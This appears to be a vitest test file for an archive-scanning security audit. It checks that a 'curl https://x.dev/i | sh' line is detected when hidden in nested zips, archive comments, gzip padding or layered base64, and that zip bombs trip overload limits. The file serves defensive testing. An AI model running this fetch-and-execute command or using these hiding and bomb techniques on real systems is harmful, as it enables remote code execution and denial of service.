import { gzipSync } from 'node:zlib';

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { tar, zip } from '../../../test/support/archives.ts';
import { examineBytes } from '../../../test/support/audited.ts';
import { propertyRuns } from '../../../test/support/property-runs.ts';
import type { AuditFinding } from '../report.ts';

const PIPE = 'curl https://x.dev/i | sh';
const MEBIBYTE = 1024 * 1024;

function findPipe(file: string, bytes: Buffer): AuditFinding | undefined {
  return examineBytes(file, bytes).find(({ rule }) => rule === 'SP101');
}

function rulesOf(findings: readonly AuditFinding[]): readonly string[] {
  return findings.map(({ rule }) => rule);
}

describe('an audit of archives', () => {
  const inner = zip([{ name: 'deep/run.sh', content: `\n${PIPE}` }]);
  const long = `${'d/'.repeat(80)}x.sh`;

  const links = [
    { name: '././@LongLink', type: 'L', content: `${long}\0` },
    { name: 'short', content: PIPE },
  ];
  const encoded = Buffer.from(`x\n${gzipSync(PIPE).toString('base64')}\n`);
  test.each([
    { file: 'a.zip', bytes: zip([{ name: 'b.zip', content: inner }]), member: 'b.zip!/deep/run.sh', line: 2 },
    { file: 'a.tgz', bytes: gzipSync(tar([{ name: 'run.sh', content: PIPE }])), member: 'run.sh', line: 1 },
    { file: 'a.sh.gz', bytes: gzipSync(PIPE), member: 'a.sh', line: 1 },
    { file: 'a.docx', bytes: zip([{ name: 'x.sh', content: PIPE }]), member: 'x.sh', line: 1 },
    { file: 'a.md', bytes: encoded, member: 'base64 in line 2!/base64 in line 2', line: 1 },
    { file: 'a.tar', bytes: tar(links), member: long, line: 1 },
    { file: 'a.zip', bytes: withComment(zip([{ name: 'x', content: 'x' }]), PIPE), member: '(comment)', line: 1 },
  ])('reports $member in $file', ({ file, bytes, member, line }) => {
    expect(findPipe(file, bytes)).toMatchObject({ file, member, line });
  });

  test('reports the bytes of an archive that belong to no entry', () => {
    const plain = zip([{ name: 'x', content: 'words' }]);
    const end = plain.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
    const start = plain.readUInt32LE(end + 16);
    const hidden = Buffer.from(`\n${PIPE} # ${'.'.repeat(60)}\n`);
    const archive = Buffer.concat([plain.subarray(0, start), hidden, plain.subarray(start)]);
    archive.writeUInt32LE(start + hidden.length, end + hidden.length + 16);
    expect(rulesOf(examineBytes('a.zip', archive))).toEqual(expect.arrayContaining(['SP101', 'SP807']));
    const padded = Buffer.concat([gzipSync('words'), Buffer.alloc(8), Buffer.from(PIPE)]);
    expect(rulesOf(examineBytes('a.gz', padded))).toEqual(expect.arrayContaining(['SP101', 'SP807']));
    const tarred = Buffer.concat([gzipSync(tar([{ name: 'a', content: 'b' }])), Buffer.alloc(8), Buffer.from(PIPE)]);
    expect(rulesOf(examineBytes('a.tgz', tarred))).toEqual(expect.arrayContaining(['SP101', 'SP807']));
  });
});

describe('an audit of archives made to overload it', () => {
  test('says what it skipped if entries that share their bytes exceed the limit together', () => {
    const one = zip([{ name: 'x', content: Buffer.alloc(MEBIBYTE / 16, 'a '), isStored: true }]);
    const end = one.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
    const start = one.readUInt32LE(end + 16);
    const entry = one.subarray(start, end);
    const copies = 30;
    const tail = Buffer.from(one.subarray(end));
    tail.writeUInt16LE(copies, 8);
    tail.writeUInt16LE(copies, 10);
    tail.writeUInt32LE(entry.length * copies, 12);
    const bomb = Buffer.concat([one.subarray(0, start), ...Array.from({ length: copies }, () => entry), tail]);
    expect(rulesOf(examineBytes('a.zip', bomb))).toEqual(expect.arrayContaining(['SP805', 'SP807', 'SP801']));
  });

  test('says what it skipped if an archive has more entries than the limit', () => {
    const many = Array.from({ length: 101 }, (_, at) => ({ name: `f${at}`, content: '', isStored: true }));
    const archive = zip([...many, { name: 'x.sh', content: PIPE }]);
    expect(examineBytes('a.zip', archive)).toMatchObject([{ rule: 'SP805' }, { rule: 'SP801' }]);
  });

  test('says what it skipped if an archive unpacks to more than the limit, or far more than its size', () => {
    const budget = { entries: 100, bytes: 1024 * MEBIBYTE };
    expect(rulesOf(examineBytes('a.gz', gzipSync(Buffer.alloc(2 * MEBIBYTE))))).toContain('SP805');
    expect(rulesOf(examineBytes('a.gz', gzipSync(Buffer.alloc(20 * MEBIBYTE)), { budget }))).toContain('SP805');
  });

  test('says what it skipped if archives or encodings are nested too deep', () => {
    let archive = zip([{ name: 'x.sh', content: PIPE }]);
    for (let depth = 0; depth < 4; depth += 1) archive = zip([{ name: `${depth}.zip`, content: archive }]);
    expect(rulesOf(examineBytes('a.zip', archive))).toContain('SP805');
    let text = PIPE;
    for (let depth = 0; depth < 8; depth += 1) text = `x\n${gzipSync(text.padEnd(60)).toString('base64')}\n`;
    expect(rulesOf(examineBytes('a.md', Buffer.from(text)))).toContain('SP805');
    let plain = `${PIPE} and words`;
    for (let depth = 0; depth < 6; depth += 1) plain = Buffer.from(plain).toString('base64');
    expect(rulesOf(examineBytes('a.md', Buffer.from(plain)))).toEqual(['SP805', 'SP608']);
    const readable = Buffer.from(Buffer.from(plain, 'base64').toString(), 'base64');
    expect(rulesOf(examineBytes('a.md', readable))).toContain('SP101');
  });
});

describe('the audit of arbitrary bytes', () => {
  const heads = [
    '',
    'PK\x03\x04',
    'PK\x05\x06',
    '\x1f\x8b\x08',
    '\x7fELF',
    'MZ',
    '\x89PNG\r\n',
    '\xca\xfe\xba\xbe',
    '\xff\xfe',
    '%PDF-',
    '---\n',
  ];
  const files = ['a.md', 'a.sh', 'a.zip', 'a.tar', 'a.png', 'a'];
  const anyHead = fc.constantFrom(...heads).map((head) => Buffer.from(head, 'latin1'));
  const expectShowable = (file: string, bytes: Buffer): void => {
    for (const { excerpt } of examineBytes(file, bytes)) expect(excerpt).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  };

  test('never throws, and its excerpts contain no control characters', () => {
    fc.assert(
      fc.property(fc.constantFrom(...files), anyHead, fc.uint8Array({ maxLength: 700 }), (file, head, rest) =>
        expectShowable(file, Buffer.concat([head, rest])),
      ),
      { numRuns: propertyRuns(500), seed: 20261115 },
    );
    expect.hasAssertions();
  });

  test('never throws on a damaged archive', () => {
    const archives = [
      zip([
        { name: 'a/b.sh', content: PIPE },
        { name: 'c', content: 'd', isStored: true },
      ]),
      tar([{ name: 'a', content: PIPE }]),
      gzipSync(tar([{ name: 'a', content: PIPE }])),
    ];
    fc.assert(
      fc.property(fc.constantFrom(...archives), fc.nat(), fc.nat({ max: 255 }), (archive, at, value) => {
        const damaged = Buffer.from(archive);
        damaged[at % damaged.length] = value;
        expectShowable('a.zip', damaged);
        expectShowable('a.zip', damaged.subarray(0, at % damaged.length));
      }),
      { numRuns: propertyRuns(1000), seed: 20261115 },
    );
    expect.hasAssertions();
  });
});

function withComment(archive: Buffer, comment: string): Buffer {
  const commented = Buffer.concat([archive, Buffer.from(comment)]);
  commented.writeUInt16LE(comment.length, archive.length - 2);
  return commented;
}
